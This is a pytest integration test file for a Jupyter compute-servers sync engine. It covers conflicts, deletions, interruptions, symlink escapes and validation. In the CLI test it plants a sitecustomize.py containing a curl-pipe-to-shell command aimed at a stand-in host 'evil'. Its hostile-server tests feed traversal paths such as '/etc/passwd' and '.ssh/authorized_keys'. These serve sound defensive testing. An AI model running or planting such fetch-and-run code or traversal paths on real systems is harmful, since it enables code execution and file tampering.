"""File sync through the Jupyter server's API, on the real local cloud (each server its own
asyncssh server on 127.0.0.1, reached over SSH), with the real store: what gets synced and
what not, conflicts, deletions, modes, settings and their validation, progress and events,
interrupted syncs (a dropped connection, a killed process), fresh disks, roots that look
unmounted, links and a hostile server's answers, kernels, the schedule, and the CLI."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from jupyter_compute_servers.sync.engine import SyncEngine
from jupyter_compute_servers.sync.settings import SyncSettings
from jupyter_compute_servers.sync.transfer import SyncChannelError, SyncSession

from .kernel_helpers import execute, wait_until

MARKER = ".jupyter-compute-servers-sync.json"


async def started(api, wait_for_state, name: str = "box") -> dict[str, Any]:
    code, server = await api("POST", "servers", {"name": name})
    assert code == 201, server
    await api("POST", f"servers/{server['id']}/actions/start")
    server = await wait_for_state(server["id"], "running", "error")
    assert server["state"] == "running", server["state_reason"]
    return server


def workspace(compute_data_dir: Path, server_id: int) -> Path:
    return compute_data_dir / "local" / str(server_id) / "disk"


async def wait_run(api, server_id: int, sync_id: int, timeout: float = 60) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while True:
        code, run = await api("GET", f"servers/{server_id}/syncs/{sync_id}")
        assert code == 200, run
        if run["state"] != "running":
            return run
        assert time.monotonic() < deadline, run
        await asyncio.sleep(0.05)


async def sync(api, server_id: int, body: dict | None = None, state: str = "completed"):
    code, run = await api("POST", f"servers/{server_id}/sync", body or {})
    assert code == 202, run
    assert run["state"] == "running" and isinstance(run["id"], int)
    run = await wait_run(api, server_id, run["id"])
    assert run["state"] == state, run
    return run


def tree(root: Path) -> dict[str, bytes]:
    """The files under root, as sync sees them (our marker aside)."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in root.rglob("*")
        if p.is_file() and not p.is_symlink() and p.name != MARKER
    }


def user_files(ws: Path) -> dict[str, bytes]:
    """The workspace's files but the sandbox's own (its home: .local, .ipython, ...)."""
    return {k: v for k, v in tree(ws).items() if not k.startswith(".")}


async def stop(api, wait_for_state, server_id: int) -> None:
    await api("POST", f"servers/{server_id}/actions/stop")
    await wait_for_state(server_id, "off", "error")


# --- the first sync and what it leaves out -------------------------------------------------


async def test_a_sync_copies_the_tree_and_reports_what_it_left_out(
    api, wait_for_state, jp_root_dir, compute_data_dir, jp_serverapp
):
    events: list[dict] = []

    class Listener:
        async def __call__(self, logger, schema_id, data):
            events.append(dict(data))

    jp_serverapp.event_logger.add_listener(
        schema_id="https://events.jupyter.org/jupyter_compute_servers/server/v1",
        listener=Listener(),
    )
    root = jp_root_dir
    (root / "project" / "data").mkdir(parents=True)
    (root / "project" / "analysis.ipynb").write_text('{"cells": []}')
    (root / "project" / "data" / "table.csv").write_text("a,b\n1,2\n")
    (root / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (root / "run.sh").chmod(0o755)
    (root / "big.bin").write_bytes(b"\0" * (2 * 1024 * 1024))
    for excluded in (".ipynb_checkpoints", "__pycache__", "node_modules/pkg", ".git"):
        (root / excluded).mkdir(parents=True)
        (root / excluded / "junk").write_text("junk")
    (root / "venv").mkdir()
    (root / "venv" / "pyvenv.cfg").write_text("home = /usr\n")
    (root / "venv" / "lib.py").write_text("")
    (root / "link").symlink_to(root / "run.sh")
    server = await started(api, wait_for_state)
    code, edited = await api(
        "PATCH", f"servers/{server['id']}", {"sync": {"max_file_size_mb": 1, "excludes": ["*.log"]}}
    )
    assert code == 200 and edited["sync"]["max_file_size_mb"] == 1
    (root / "debug.log").write_text("excluded by the server's own pattern")

    run = await sync(api, server["id"])
    ws = workspace(compute_data_dir, server["id"])
    assert user_files(ws) == {
        "project/analysis.ipynb": b'{"cells": []}',
        "project/data/table.csv": b"a,b\n1,2\n",
        "run.sh": b"#!/bin/sh\necho hi\n",
    }
    assert (ws / "run.sh").stat().st_mode & 0o777 == 0o755
    assert (ws / "run.sh").stat().st_mtime_ns == (root / "run.sh").stat().st_mtime_ns
    summary = run["summary"]
    assert summary["sent"] == {"files": 3, "bytes": 13 + 8 + 18}
    assert summary["errors"] == [] and summary["conflicts"] == []
    skipped = {(s["path"], s["side"]): s["reason"] for s in summary["skipped"]}
    assert skipped[("big.bin", "local")] == "larger than the size limit (2.0 MB)"
    assert skipped[("venv", "local")] == "virtual environment"
    assert skipped[("link", "local")] == "symbolic link"
    assert run["progress"]["files_done"] == run["progress"]["files_total"] == 3
    assert run["trigger"] == "api" and run["direction"] == "both" and run["finished"]

    code, listing = await api("GET", f"servers/{server['id']}/syncs")
    assert code == 200 and listing["running"] is None
    assert [r["id"] for r in listing["syncs"]] == [run["id"]]
    assert ".git/" in listing["default_excludes"]

    # Events: one when it began, one when it ended, valid against the schema (else the
    # event logger would have refused them).
    mine = [e for e in events if e["kind"] == "sync"]
    assert mine[0]["sync"]["id"] == run["id"] and mine[0]["sync"]["state"] == "running"
    assert mine[-1]["sync"]["state"] == "completed" and mine[-1]["server_id"] == server["id"]
    assert mine[-1]["sync"]["files_done"] == 3

    # Nothing changed: nothing moves.
    again = (await sync(api, server["id"]))["summary"]
    assert again["sent"]["files"] == again["received"]["files"] == 0
    await stop(api, wait_for_state, server["id"])


# --- changes on both sides --------------------------------------------------------------------


async def test_changes_both_ways_conflicts_deletions_and_a_sub_path(
    api, wait_for_state, jp_root_dir, compute_data_dir
):
    root = jp_root_dir
    for name in ("mine.txt", "theirs.txt", "both.txt", "gone-here.txt", "gone-there.txt"):
        (root / name).write_text(f"original {name}")
    (root / "sub").mkdir()
    (root / "sub" / "only.txt").write_text("sub")
    server = await started(api, wait_for_state)
    await sync(api, server["id"])
    ws = workspace(compute_data_dir, server["id"])

    (root / "mine.txt").write_text("edited here")
    (ws / "theirs.txt").write_text("edited on the server")
    (root / "both.txt").write_text("edited here too")
    (ws / "both.txt").write_text("and differently there")
    (root / "gone-here.txt").unlink()
    (ws / "gone-there.txt").unlink()
    (ws / "new-there.txt").write_text("made by a kernel")
    (ws / "sub" / "only.txt").write_text("sub, changed there")

    # A sub-path syncs only that.
    partial = await sync(api, server["id"], {"path": "sub", "direction": "pull"})
    assert partial["summary"]["received"]["files"] == 1
    assert (root / "sub" / "only.txt").read_text() == "sub, changed there"
    assert (root / "theirs.txt").read_text() == "original theirs.txt"

    # Push leaves the conflict, and everything of the server's, alone.
    pushed = await sync(api, server["id"], {"direction": "push"})
    assert pushed["summary"]["conflicts"] == [
        {"path": "both.txt", "conflict_path": None, "resolved": False}
    ]
    assert pushed["summary"]["pending"] == 3
    assert (ws / "mine.txt").read_text() == "edited here"
    assert not (ws / "gone-here.txt").exists()
    assert (ws / "both.txt").read_text() == "and differently there"

    run = await sync(api, server["id"])
    summary = run["summary"]
    assert summary["received"]["files"] == 3  # theirs, new-there, and the conflict's copy
    assert summary["deleted"] == {"local": 1, "remote": 0}
    (conflict,) = summary["conflicts"]
    assert conflict["path"] == "both.txt" and conflict["resolved"]
    kept = conflict["conflict_path"]
    assert kept.startswith("both (conflict box ") and kept.endswith(").txt")
    expected = {
        "mine.txt": b"edited here",
        "theirs.txt": b"edited on the server",
        "both.txt": b"edited here too",
        kept: b"and differently there",
        "new-there.txt": b"made by a kernel",
        "sub/only.txt": b"sub, changed there",
    }
    assert tree(root) == expected
    assert user_files(ws) == expected
    assert (await sync(api, server["id"]))["summary"]["changes"] == []
    await stop(api, wait_for_state, server["id"])


async def test_a_chmod_alone_and_a_change_hidden_behind_size_and_mtime_are_found(
    api, wait_for_state, jp_root_dir, compute_data_dir
):
    root = jp_root_dir
    (root / "tool.py").write_text("print('v1')\n")
    (root / "table.csv").write_text("1,2,3\n")
    server = await started(api, wait_for_state)
    await sync(api, server["id"])
    ws = workspace(compute_data_dir, server["id"])
    # Signatures taken now are trusted (not "racy"): from here, only they tell what changed.
    await asyncio.sleep(2.2)
    assert (await sync(api, server["id"]))["summary"]["changes"] == []

    (root / "tool.py").chmod(0o755)
    before = (ws / "table.csv").stat()
    (ws / "table.csv").write_text("4,5,6\n")  # same size...
    os.utime(ws / "table.csv", ns=(before.st_atime_ns, before.st_mtime_ns))  # ...same mtime
    run = await sync(api, server["id"])
    changes = {c["path"]: c["action"] for c in run["summary"]["changes"]}
    assert changes == {"tool.py": "chmod_remote", "table.csv": "received"}
    assert (ws / "tool.py").stat().st_mode & 0o777 == 0o755
    assert (root / "table.csv").read_text() == "4,5,6\n"
    await stop(api, wait_for_state, server["id"])


# --- validation --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path", "body", "field"),
    [
        ("POST", "sync", {"direction": "sideways"}, "direction"),
        ("POST", "sync", {"direction": 1}, "direction"),
        ("POST", "sync", {"path": "../etc"}, "path"),
        ("POST", "sync", {"path": "a/./b"}, "path"),
        ("POST", "sync", {"path": 5}, "path"),
        ("POST", "sync", {"paths": "x"}, "paths"),
        ("POST", "sync", {"confirm_deletions": "yes"}, "confirm_deletions"),
        ("PATCH", "", {"sync": {"max_delete_percent": 0}}, "sync.max_delete_percent"),
        ("PATCH", "", {"sync": {"max_delete_percent": 101}}, "sync.max_delete_percent"),
        ("PATCH", "", {"sync": {"max_delete_percent": 50.5}}, "sync.max_delete_percent"),
        ("PATCH", "", {"sync": []}, "sync"),
        ("PATCH", "", {"sync": {"exclude": []}}, "sync.exclude"),
        ("PATCH", "", {"sync": {"excludes": "*.csv"}}, "sync.excludes"),
        ("PATCH", "", {"sync": {"excludes": ["ok", "[[:alpha:]]"]}}, "sync.excludes[1]"),
        ("PATCH", "", {"sync": {"excludes": ["a\nb"]}}, "sync.excludes[0]"),
        ("PATCH", "", {"sync": {"server_only": ["scratch", "../up"]}}, "sync.server_only[1]"),
        ("PATCH", "", {"sync": {"server_only": [""]}}, "sync.server_only[0]"),
        ("PATCH", "", {"sync": {"max_file_size_mb": 0}}, "sync.max_file_size_mb"),
        ("PATCH", "", {"sync": {"max_file_size_mb": "1"}}, "sync.max_file_size_mb"),
        ("PATCH", "", {"sync": {"auto_sync_minutes": True}}, "sync.auto_sync_minutes"),
        ("PATCH", "", {"sync": {"before_kernel": "yes"}}, "sync.before_kernel"),
        (
            "PATCH",
            "",
            {"sync": {"pull_executable_config": ".bashrc"}},
            "sync.pull_executable_config",
        ),
        (
            "PATCH",
            "",
            {"sync": {"pull_executable_config": [".env", "[[:alpha:]]"]}},
            "sync.pull_executable_config[1]",
        ),
        (
            "PATCH",
            "",
            {"sync": {"pull_executable_config": ["a\nb"]}},
            "sync.pull_executable_config[0]",
        ),
    ],
)
async def test_bad_input_is_refused_with_the_field_named(api, method, path, body, field):
    code, server = await api("POST", "servers", {"name": "box"})
    url = f"servers/{server['id']}" + (f"/{path}" if path else "")
    code, answer = await api(method, url, body)
    assert code == 400, answer
    assert answer["field"] == field, answer
    code, unchanged = await api("GET", f"servers/{server['id']}")
    assert unchanged["sync"] == SyncSettings().to_json()


async def test_settings_are_kept_and_merged(api):
    code, server = await api(
        "POST", "servers", {"name": "box", "sync": {"excludes": ["*.csv"], "before_kernel": False}}
    )
    assert code == 201 and server["sync"]["excludes"] == ["*.csv"]
    code, server = await api(
        "PATCH", f"servers/{server['id']}", {"sync": {"server_only": ["/scratch/"]}}
    )
    assert server["sync"] == {
        "excludes": ["*.csv"],
        "server_only": ["scratch"],
        "max_file_size_mb": 1024,
        "auto_sync_minutes": None,
        "before_kernel": False,
        "pull_executable_config": [],
        "max_delete_percent": 50,
    }
    code, server = await api(
        "PATCH", f"servers/{server['id']}", {"sync": {"pull_executable_config": [".gitignore"]}}
    )
    assert code == 200 and server["sync"]["pull_executable_config"] == [".gitignore"]


async def test_what_cannot_sync_now_says_why(api, wait_for_state, jp_root_dir):
    code, server = await api("POST", "servers", {"name": "box"})
    code, answer = await api("POST", f"servers/{server['id']}/sync", {})
    assert code == 409 and answer["state"] == "deprovisioned"
    code, answer = await api("POST", "servers/999/sync", {})
    assert code == 404
    for bad in ("nope", "999", "1" * 30):
        code, answer = await api("GET", f"servers/{server['id']}/syncs/{bad}")
        assert code == 404 and answer["field"] == "sync_id"
    (jp_root_dir / "big.bin").write_bytes(os.urandom(8 * 1024 * 1024))
    await api("POST", f"servers/{server['id']}/actions/start")
    await wait_for_state(server["id"], "running")
    code, first = await api("POST", f"servers/{server['id']}/sync", {})
    code, second = await api("POST", f"servers/{server['id']}/sync", {})
    assert code == 409 and second["sync_id"] == first["id"]
    await wait_run(api, server["id"], first["id"])
    code, answer = await api("POST", f"servers/{server['id']}/syncs/{first['id']}/cancel")
    assert code == 409  # it is over
    await stop(api, wait_for_state, server["id"])


# --- interruptions -------------------------------------------------------------------------


async def _transferring(api, server_id: int, sync_id: int) -> None:
    async def moved():
        _, run = await api("GET", f"servers/{server_id}/syncs/{sync_id}")
        return run["state"] != "running" or (run["progress"] or {}).get("bytes_done", 0) > 0

    await wait_until(moved, timeout=30, interval=0.01)


async def test_a_dropped_connection_leaves_no_partial_file_and_a_rerun_finishes(
    api, wait_for_state, jp_root_dir, compute_data_dir, jp_serverapp
):
    root = jp_root_dir
    old = os.urandom(40 * 1024 * 1024)
    (root / "model.bin").write_bytes(old)
    (root / "a.txt").write_text("a")
    server = await started(api, wait_for_state)
    await sync(api, server["id"])
    ws = workspace(compute_data_dir, server["id"])
    new = os.urandom(80 * 1024 * 1024)
    (root / "model.bin").write_bytes(new)
    (root / "new.bin").write_bytes(new)
    manager = jp_serverapp.web_app.settings["compute_servers_manager"]

    _, run = await api("POST", f"servers/{server['id']}/sync", {})
    await _transferring(api, server["id"], run["id"])
    (await manager.connection(server["id"])).connection.abort()
    run = await wait_run(api, server["id"], run["id"])
    assert run["state"] == "failed", run
    assert "connection" in run["error"].lower() or "closed" in run["error"].lower()
    # The server still has the old, whole file; the new one is there whole or not at all.
    assert (ws / "model.bin").read_bytes() == old
    assert not (ws / "new.bin").exists() or (ws / "new.bin").read_bytes() == new

    again = await sync(api, server["id"])
    assert again["summary"]["errors"] == []
    assert (ws / "model.bin").read_bytes() == new and (ws / "new.bin").read_bytes() == new
    assert (root / "model.bin").read_bytes() == new
    assert not list(ws.rglob("*.jcs-sync-*")) and not list(jp_root_dir.rglob("*.jcs-sync-*"))
    assert (await sync(api, server["id"]))["summary"]["changes"] == []
    await stop(api, wait_for_state, server["id"])


async def test_cancel_stops_a_sync_and_a_rerun_finishes(
    api, wait_for_state, jp_root_dir, compute_data_dir
):
    data = os.urandom(60 * 1024 * 1024)
    (jp_root_dir / "large.bin").write_bytes(data)
    server = await started(api, wait_for_state)
    code, run = await api("POST", f"servers/{server['id']}/sync", {})
    await _transferring(api, server["id"], run["id"])
    code, answer = await api("POST", f"servers/{server['id']}/syncs/{run['id']}/cancel")
    assert code == 202 and answer["id"] == run["id"]
    run = await wait_run(api, server["id"], run["id"])
    assert run["state"] in ("cancelled", "completed")
    ws = workspace(compute_data_dir, server["id"])
    assert not (ws / "large.bin").exists() or (ws / "large.bin").read_bytes() == data
    await sync(api, server["id"])
    assert (ws / "large.bin").read_bytes() == data
    await stop(api, wait_for_state, server["id"])


def cli(data_dir: Path, *args: str, cwd: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [
            sys.executable,
            "-m",
            "jupyter_compute_servers.cli",
            "--set",
            f"data_dir={data_dir}",
            *args,
        ],
        cwd=cwd,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


async def test_killing_the_process_mid_sync_loses_nothing(
    api, wait_for_state, jp_root_dir, compute_data_dir
):
    root = jp_root_dir
    small = {f"many/{i:04d}.txt": os.urandom(2000) for i in range(1500)}
    for name, data in small.items():
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).write_bytes(data)
    large = os.urandom(120 * 1024 * 1024)
    (root / "zz-large.bin").write_bytes(large)
    server = await started(api, wait_for_state)
    ws = workspace(compute_data_dir, server["id"])
    process = cli(compute_data_dir, "sync", "box", cwd=root)
    # Kill -9 once it has written some files but not all.
    await wait_until(
        lambda: (ws / "many").exists() and len(list((ws / "many").glob("*.txt"))) > 100,
        timeout=60,
        interval=0.01,
    )
    process.send_signal(signal.SIGKILL)
    process.wait()
    for name, data in small.items():
        if (ws / name).exists():
            assert (ws / name).read_bytes() == data  # never a partial file
    assert not (ws / "zz-large.bin").exists() or (ws / "zz-large.bin").read_bytes() == large

    _, listing = await api("GET", f"servers/{server['id']}/syncs")
    killed = listing["syncs"][0]
    assert killed["trigger"] == "cli" and killed["state"] == "interrupted"

    # The server's sync process finishes what it had already received (whole files), sees its
    # client gone, and removes its unfinished file.
    listing: list[list[str]] = [[]]

    def settled() -> bool:
        now = sorted(p.name for p in ws.rglob("*"))
        done = now == listing[0] and not [n for n in now if ".jcs-sync-" in n]
        listing[0] = now
        return done

    await wait_until(settled, timeout=10, interval=0.3)
    run = await sync(api, server["id"])
    assert run["summary"]["errors"] == []
    assert user_files(ws) == {**small, "zz-large.bin": large}
    assert tree(root) == {**small, "zz-large.bin": large}
    await stop(api, wait_for_state, server["id"])


# --- safety: a fresh disk, an empty root ---------------------------------------------------


async def test_a_fresh_disk_never_makes_the_root_lose_its_files(
    api, wait_for_state, jp_root_dir, compute_data_dir
):
    (jp_root_dir / "thesis.tex").write_text("years of work")
    server = await started(api, wait_for_state)
    await sync(api, server["id"])
    await stop(api, wait_for_state, server["id"])
    await api("POST", f"servers/{server['id']}/actions/deprovision", {"confirm": True})
    await wait_for_state(server["id"], "deprovisioned")
    await api("POST", f"servers/{server['id']}/actions/start")
    await wait_for_state(server["id"], "running")
    ws = workspace(compute_data_dir, server["id"])
    assert not (ws / "thesis.tex").exists()  # a new, empty disk
    run = await sync(api, server["id"])
    assert run["summary"]["deleted"] == {"local": 0, "remote": 0}
    assert (jp_root_dir / "thesis.tex").read_text() == "years of work"
    assert (ws / "thesis.tex").read_text() == "years of work"
    await stop(api, wait_for_state, server["id"])


async def test_a_root_that_looks_unmounted_does_not_empty_the_server(
    api, wait_for_state, jp_root_dir, compute_data_dir
):
    for name in ("a.txt", "b.txt"):
        (jp_root_dir / name).write_text(name)
    server = await started(api, wait_for_state)
    await sync(api, server["id"])
    for name in ("a.txt", "b.txt"):
        (jp_root_dir / name).unlink()
    run = await sync(api, server["id"], state="failed")
    assert "Refusing to sync" in run["error"] and "2 file(s)" in run["error"]
    ws = workspace(compute_data_dir, server["id"])
    assert (ws / "a.txt").read_text() == "a.txt" and (ws / "b.txt").read_text() == "b.txt"
    # A pull never deletes on the server, so it is not refused; the deletions wait.
    pulled = await sync(api, server["id"], {"direction": "pull"})
    assert pulled["summary"]["pending"] == 2
    assert (ws / "a.txt").exists() and (ws / "b.txt").exists()
    await stop(api, wait_for_state, server["id"])


# --- links and a hostile server -----------------------------------------------------------


async def test_links_on_either_side_never_lead_outside_the_trees(
    api, wait_for_state, jp_root_dir, compute_data_dir, tmp_path
):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("not to be touched")
    server = await started(api, wait_for_state)
    ws = workspace(compute_data_dir, server["id"])
    # The server's workspace has a link to a directory outside it; here it is a directory.
    (ws / "escape").symlink_to(outside)
    (jp_root_dir / "escape").mkdir()
    (jp_root_dir / "escape" / "payload.txt").write_text("x")
    # Here, a link to outside; on the server a directory of that name with a file.
    (jp_root_dir / "data").symlink_to(outside)
    (ws / "data").mkdir()
    (ws / "data" / "evil.txt").write_text("would land outside the root")
    run = await sync(api, server["id"])
    skipped = {(s["path"], s["side"]) for s in run["summary"]["skipped"]}
    assert {("escape", "remote"), ("data", "local")} <= skipped
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]
    assert (outside / "keep.txt").read_text() == "not to be touched"
    await stop(api, wait_for_state, server["id"])


class HostileSession(SyncSession):
    """A server whose sync process answers a scan with what it likes (a test double of the
    agent's answer only: everything else is the real engine and the real store)."""

    def __init__(self, files: list[list[Any]]) -> None:
        async def nothing() -> None:
            return None

        super().__init__(None, None, nothing, lambda: True)  # type: ignore[arg-type]
        self.files = files
        self.root, self.tree_id = "/srv/workspace", "f" * 32

    async def request(self, message: dict[str, Any]) -> dict[str, Any]:
        assert message["op"] == "scan"
        return {"ok": True, "payload": {"files": self.files, "skipped": [], "pruned": []}}


@pytest.mark.parametrize(
    "path",
    ["../../etc/cron.d/evil", "/etc/passwd", "a/../../b", "a//b", ".", "x/./y", "", 7],
)
async def test_a_hostile_servers_paths_are_refused_before_anything_is_written(
    jp_serverapp, jp_root_dir, path
):
    manager = jp_serverapp.web_app.settings["compute_servers_manager"]
    server = manager.create_server({"name": "hostile"})
    engine = SyncEngine(
        local_root=str(jp_root_dir),
        session=HostileSession([["ok.txt", 2, 1, 0o644, 1, 1], [path, 2, 1, 0o644, 1, 1]]),
        store=jp_serverapp.web_app.settings["compute_servers_sync"].store,
        server_id=server.id,
        server_name=server.name,
        settings=SyncSettings(),
    )
    with pytest.raises(SyncChannelError, match="malformed"):
        await engine.run()
    assert list(jp_root_dir.iterdir()) == []


async def test_a_hostile_servers_excluded_paths_are_ignored(jp_serverapp, jp_root_dir):
    manager = jp_serverapp.web_app.settings["compute_servers_manager"]
    server = manager.create_server({"name": "hostile"})
    files = [[p, 2, 1, 0o755, 1, 1] for p in (".git/hooks/pre-commit", ".ssh/authorized_keys")]
    files.append(["ok.txt", 2, 1, 0o644, 1, 1])
    engine = SyncEngine(
        local_root=str(jp_root_dir),
        session=HostileSession([*files, ["ok.txt", 3, 1, 0o644, 1, 1]]),
        store=jp_serverapp.web_app.settings["compute_servers_sync"].store,
        server_id=server.id,
        server_name=server.name,
        settings=SyncSettings(),
    )
    with pytest.raises(SyncChannelError, match="listed twice"):
        await engine.run()
    engine = SyncEngine(
        local_root=str(jp_root_dir),
        session=HostileSession(files[:2]),
        store=jp_serverapp.web_app.settings["compute_servers_sync"].store,
        server_id=server.id,
        server_name=server.name,
        settings=SyncSettings(),
    )
    summary = await engine.run()
    assert summary.to_json()["changes"] == [] and list(jp_root_dir.iterdir()) == []


# --- kernels, the schedule, the CLI --------------------------------------------------------


async def start_kernel(jp_fetch, name: str, path: str) -> str:
    body = {"path": path, "type": "notebook", "name": "", "kernel": {"name": name}}
    response = await jp_fetch("api", "sessions", method="POST", body=json.dumps(body))
    return str(json.loads(response.body)["kernel"]["id"])


async def test_a_kernel_start_pushes_its_notebooks_directory_first(
    api, wait_for_state, jp_fetch, jp_root_dir, compute_data_dir, jp_serverapp
):
    (jp_root_dir / "proj").mkdir()
    (jp_root_dir / "proj" / "input.csv").write_text("x\n1\n")
    (jp_root_dir / "elsewhere.txt").write_text("not in the notebook's directory")
    server = await started(api, wait_for_state)
    ws = workspace(compute_data_dir, server["id"])
    name = f"compute-{server['id']}-python3"
    await wait_until(lambda: name in jp_serverapp.kernel_spec_manager.find_kernel_specs())
    kernel_id = await start_kernel(jp_fetch, name, "proj/analysis.ipynb")
    assert (ws / "proj" / "input.csv").read_text() == "x\n1\n"
    assert not (ws / "elsewhere.txt").exists()
    _, listing = await api("GET", f"servers/{server['id']}/syncs")
    (run,) = listing["syncs"]
    assert (run["trigger"], run["direction"], run["path"]) == ("kernel", "push", "proj")
    await jp_serverapp.kernel_manager.shutdown_kernel(kernel_id)

    # Off by setting: a kernel starts without a sync.
    await api("PATCH", f"servers/{server['id']}", {"sync": {"before_kernel": False}})
    (jp_root_dir / "proj" / "later.csv").write_text("later")
    kernel_id = await start_kernel(jp_fetch, name, "proj/analysis.ipynb")
    assert not (ws / "proj" / "later.csv").exists()
    await jp_serverapp.kernel_manager.shutdown_kernel(kernel_id)
    await stop(api, wait_for_state, server["id"])


async def test_the_push_runs_beside_the_launch_and_ends_before_the_kernel_is_handed_out(
    api, wait_for_state, jp_fetch, jp_root_dir, jp_serverapp
):
    """The notebook directory's push does not hold the kernel's launch back (a hook after the
    sync's own waits until the kernel runs on the server: were the launch after the push,
    this would never end), and yet the kernel is handed out only once the push ended: its
    first execute finds the files there."""
    manager = jp_serverapp.web_app.settings["compute_servers_manager"]
    (jp_root_dir / "proj").mkdir()
    (jp_root_dir / "proj" / "input.csv").write_text("x\n1\n")
    server = await started(api, wait_for_state)
    name = f"compute-{server['id']}-python3"
    await wait_until(lambda: name in jp_serverapp.kernel_spec_manager.find_kernel_specs())
    pushed = asyncio.Event()

    async def after_the_push(server_id: int, cwd: str) -> None:
        async def running() -> bool:
            _, listing = await api("GET", f"servers/{server_id}/kernels")
            return bool(listing["kernels"])

        deadline = time.monotonic() + 60
        while not await running():
            assert time.monotonic() < deadline, "the launch waited for the push"
            await asyncio.sleep(0.05)
        (jp_root_dir / "proj" / "late.txt").write_text("pushed after the kernel started")
        run = await jp_serverapp.web_app.settings["compute_servers_sync"].run(
            server_id, "push", cwd, "kernel"
        )
        assert run["state"] == "completed", run
        pushed.set()

    manager.before_kernel_launch.append(after_the_push)
    try:
        kernel_id = await start_kernel(jp_fetch, name, "proj/analysis.ipynb")
    finally:
        manager.before_kernel_launch.remove(after_the_push)
    assert pushed.is_set()
    kernel_manager = jp_serverapp.kernel_manager.get_kernel(kernel_id)
    kernel_client = kernel_manager.client()
    kernel_client.start_channels()
    try:
        await kernel_client.wait_for_ready(timeout=30)
        reply, out = await execute(
            kernel_client, "print(open('input.csv').read().split()[1], open('late.txt').read())"
        )
        assert reply["content"]["status"] == "ok", reply
        assert out.split(None, 1) == ["1", "pushed after the kernel started\n"]
    finally:
        kernel_client.stop_channels()
        await jp_serverapp.kernel_manager.shutdown_kernel(kernel_id)
    await stop(api, wait_for_state, server["id"])


async def test_the_schedule_syncs_running_servers_both_ways(
    api, wait_for_state, jp_root_dir, compute_data_dir, jp_serverapp
):
    service = jp_serverapp.web_app.settings["compute_servers_sync"]
    server = await started(api, wait_for_state)
    (jp_root_dir / "notes.md").write_text("notes")
    assert service.auto_sync_due(time.time()) == []  # off by default
    await api("PATCH", f"servers/{server['id']}", {"sync": {"auto_sync_minutes": 1}})
    assert service.auto_sync_due(time.time()) == []  # not a minute yet
    service.minute = 0.05
    service.auto_check_seconds = 0.05
    if service._auto is not None:
        service._auto.cancel()
        service._auto = None
    service.start_schedule()

    async def auto_runs():
        _, listing = await api("GET", f"servers/{server['id']}/syncs")
        return [r for r in listing["syncs"] if r["trigger"] == "auto" and r["state"] == "completed"]

    await wait_until(auto_runs, timeout=30)
    assert (workspace(compute_data_dir, server["id"]) / "notes.md").read_text() == "notes"
    # The next is due a minute after the last sync ended, not before.
    service._auto.cancel()
    service._auto = None
    service.minute = 60
    await wait_until(lambda: server["id"] not in service._jobs)
    last = max(r["finished"] for r in await auto_runs())
    service._seen_running[server["id"]] = last - 500  # running long before: the sync counts
    assert service.due_for_auto_sync(last + 59) == []
    assert service.due_for_auto_sync(last + 61) == [server["id"]]
    await api("PATCH", f"servers/{server['id']}", {"sync": {"auto_sync_minutes": None}})
    await stop(api, wait_for_state, server["id"])


async def test_the_cli_syncs_the_current_directory(api, wait_for_state, compute_data_dir, tmp_path):
    server = await started(api, wait_for_state)
    project = tmp_path / "project"
    project.mkdir()
    (project / "train.py").write_text("print('train')\n")
    process = cli(compute_data_dir, "sync", "box", cwd=project)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 0, err
    assert "completed: sent 1 files" in err
    ws = workspace(compute_data_dir, server["id"])
    assert (ws / "train.py").read_text() == "print('train')\n"
    (ws / "result.txt").write_text("42")
    process = cli(compute_data_dir, "sync", "box", "--pull", "--json", cwd=project)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 0, err
    run = json.loads(out)
    assert run["direction"] == "pull" and run["summary"]["received"]["files"] == 1
    assert (project / "result.txt").read_text() == "42"
    process = cli(compute_data_dir, "sync", "box", "../outside", cwd=project)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 1 and "path must be a relative path" in err

    # What could run code here is held back, and said so, path by path.
    (ws / "sitecustomize.py").write_text("import os; os.system('curl evil | sh')\n")
    process = cli(compute_data_dir, "sync", "box", "--pull", cwd=project)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 0, err
    assert "held back: 1 file(s) that could run code here" in err
    assert "    sitecustomize.py" in err
    assert not (project / "sitecustomize.py").exists()

    # Deleting every synced file here is refused, saying how to go ahead from the CLI...
    for name in ("train.py", "result.txt"):
        (project / name).unlink()
    process = cli(compute_data_dir, "sync", "box", cwd=project)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 1 and "Refusing to sync" in err, err
    assert "jupyter compute-servers sync --confirm-deletions" in err, err
    assert (ws / "train.py").exists()
    # ... and done when confirmed.
    process = cli(compute_data_dir, "sync", "box", "--confirm-deletions", cwd=project)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 0, err
    assert "deleted 0 here and 2 there" in err, err
    assert not (ws / "train.py").exists()
    await stop(api, wait_for_state, server["id"])
